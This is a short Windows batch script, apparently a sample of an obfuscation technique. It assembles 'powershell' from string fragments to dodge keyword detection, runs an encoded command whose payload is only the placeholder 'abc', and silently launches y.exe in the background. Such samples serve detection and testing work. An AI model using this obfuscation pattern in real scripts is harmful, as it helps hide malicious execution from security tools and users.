@echo off
set a=pow
set b=%a:~0,2%ersh^ell
%b% -enc YQBiAGMA
if exist x (start /b y.exe) else goto :z
